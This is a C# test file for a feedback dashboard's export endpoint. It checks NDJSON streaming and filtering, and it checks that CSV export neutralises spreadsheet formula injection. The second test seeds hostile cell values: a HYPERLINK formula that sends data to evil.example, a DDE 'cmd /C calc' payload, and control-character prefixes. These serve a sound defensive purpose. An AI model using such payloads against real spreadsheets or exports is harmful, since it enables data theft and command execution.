using System.Net;
using System.Text.Json;
using FeedbackDashboard.Core.ApiKeys;
using FeedbackDashboard.Tests.Infrastructure;

namespace FeedbackDashboard.Tests.Api;

public sealed class FeedbackExportTests(PostgresDatabase db) : IClassFixture<PostgresDatabase>
{
    [Fact]
    public async Task Export_streams_ten_thousand_reactions_as_ndjson_and_filters()
    {
        var ct = TestContext.Current.CancellationToken;
        var t0 = DateTimeOffset.UtcNow.AddDays(-3);
        var task = await db.TaskAsync("Acme/Export", t0, pr: 42);
        var other = await db.TaskAsync("Other/Export", t0, pr: 1);
        await db.ExecuteAsync($"""
            insert into review_comments (kind, github_comment_id, task_id, file, line, created_at)
            select 'inline', g, '{task}', 'src/f' || g || '.cs', g % 300 + 1, '{t0:O}' from generate_series(1, 2000) g;
            insert into review_feedback (kind, github_comment_id, reactor_id, reactor_login, content, reacted_at)
            select 'inline', c, u, 'user' || u, case when u % 4 = 0 then '-1' else '+1' end,
                   '{t0:O}'::timestamptz + (c * 5 + u) * interval '1 second'
            from generate_series(1, 2000) c, generate_series(1, 5) u;
            insert into review_comments (kind, github_comment_id, task_id, created_at) values ('reply', 1, '{other}', '{t0:O}');
            insert into review_feedback (kind, github_comment_id, reactor_id, reactor_login, content, reacted_at)
            values ('reply', 1, 9, 'nine', '+1', '{t0:O}');
            """);
        await db.MaintainerAsync("acme/export", 3, "user3", "COLLABORATOR");

        await using var app = new AppFactory(db.ConnectionString);
        var client = await app.WithKeyAsync(db, Scopes.ReviewRead);

        var response = await client.GetAsync("/api/feedback/export?repository=acme/export", HttpCompletionOption.ResponseHeadersRead, ct);
        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        Assert.Equal("application/x-ndjson", response.Content.Headers.ContentType?.MediaType);

        using var reader = new StreamReader(await response.Content.ReadAsStreamAsync(ct));
        var rows = new List<JsonElement>();
        while (await reader.ReadLineAsync(ct) is { } line) rows.Add(JsonDocument.Parse(line).RootElement.Clone());

        Assert.Equal(10_000, rows.Count);
        Assert.All(rows, r => Assert.Equal(task, r.GetProperty("task_id").GetGuid()));
        Assert.Equal(2_000, rows.Count(r => r.GetProperty("content").GetString() == "-1"));
        var first = rows[0];
        Assert.Equal("acme/export", first.GetProperty("repository").GetString());
        Assert.Equal(42, first.GetProperty("pr_number").GetInt32());
        Assert.Equal("inline", first.GetProperty("comment_kind").GetString());
        Assert.True(first.GetProperty("github_comment_id").GetInt64() > 0);
        Assert.StartsWith("src/f", first.GetProperty("file").GetString());
        Assert.True(first.GetProperty("line").GetInt32() > 0);
        Assert.True(first.TryGetProperty("reacted_at", out _));
        Assert.All(rows.Where(r => r.GetProperty("reactor_id").GetInt64() == 3),
            r => Assert.Equal("COLLABORATOR", r.GetProperty("reactor_association").GetString()));

        var from = Uri.EscapeDataString(t0.AddSeconds(5 * 1000).ToString("O"));
        var windowed = await client.GetStringAsync($"/api/feedback/export?from={from}", ct);
        var count = windowed.Split('\n', StringSplitOptions.RemoveEmptyEntries).Length;
        Assert.InRange(count, 5_000, 5_010);

        var bad = await client.GetAsync("/api/feedback/export?repository=bad", ct);
        await TasksApiTests.AssertProblemAsync(bad, HttpStatusCode.BadRequest, "repository");
    }

    [Fact]
    public async Task Csv_cells_a_spreadsheet_would_run_as_formulas_start_with_an_apostrophe_and_ndjson_keeps_them()
    {
        var ct = TestContext.Current.CancellationToken;
        var t0 = DateTimeOffset.UtcNow.AddDays(-1);
        var task = await db.TaskAsync("Acme/Formulas", t0, pr: 7);
        const string rule = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")";
        await db.ExecuteAsync($"""
            insert into review_comments (kind, github_comment_id, task_id, file, line, created_at, rule, category, severity, fingerprint, resolved_by)
            values ('inline', 99001, '{task}', E'\tsrc/a.cs', 3, '{t0:O}', '{rule.Replace("'", "''")}', '+cmd|'' /C calc''!A0', '-2+3', '@SUM(1+1)', E'\rmallory');
            insert into review_feedback (kind, github_comment_id, reactor_id, reactor_login, content, reacted_at)
            values ('inline', 99001, 4, '=1+2', '-1', '{t0:O}'), ('inline', 99001, 5, 'plain-login', '+1', '{t0:O}');
            """);

        await using var app = new AppFactory(db.ConnectionString);
        var client = await app.WithKeyAsync(db, Scopes.ReviewRead);
        var csv = InsightsApiTests.ParseCsv(await client.GetStringAsync("/api/feedback/export?repository=acme/formulas&format=csv", ct));
        var header = csv[0];
        var rows = csv.Skip(1).ToDictionary(r => r[header.IndexOf("reactor_id")]);
        string Cell(string reactor, string name) => rows[reactor][header.IndexOf(name)];

        Assert.Equal("'" + rule, Cell("4", "rule"));
        Assert.Equal("'+cmd|' /C calc'!A0", Cell("4", "category"));
        Assert.Equal("'-2+3", Cell("4", "severity"));
        Assert.Equal("'@SUM(1+1)", Cell("4", "fingerprint"));
        Assert.Equal("'\tsrc/a.cs", Cell("4", "file"));
        Assert.Equal("'\rmallory", Cell("4", "resolved_by"));
        Assert.Equal("'=1+2", Cell("4", "reactor_login"));
        Assert.Equal("plain-login", Cell("5", "reactor_login"));
        // Values of our own closed sets and numbers are written as they are.
        Assert.Equal("-1", Cell("4", "content"));
        Assert.Equal("+1", Cell("5", "content"));
        Assert.Equal("99001", Cell("4", "github_comment_id"));
        Assert.Equal("3", Cell("4", "line"));
        Assert.Equal("7", Cell("4", "pr_number"));

        var ndjson = (await client.GetStringAsync("/api/feedback/export?repository=acme/formulas", ct))
            .Split('\n', StringSplitOptions.RemoveEmptyEntries).Select(l => JsonDocument.Parse(l).RootElement).ToList();
        var row = ndjson.Single(r => r.GetProperty("reactor_id").GetInt64() == 4);
        Assert.Equal(rule, row.GetProperty("rule").GetString());
        Assert.Equal("=1+2", row.GetProperty("reactor_login").GetString());
        Assert.Equal("\tsrc/a.cs", row.GetProperty("file").GetString());
    }
}
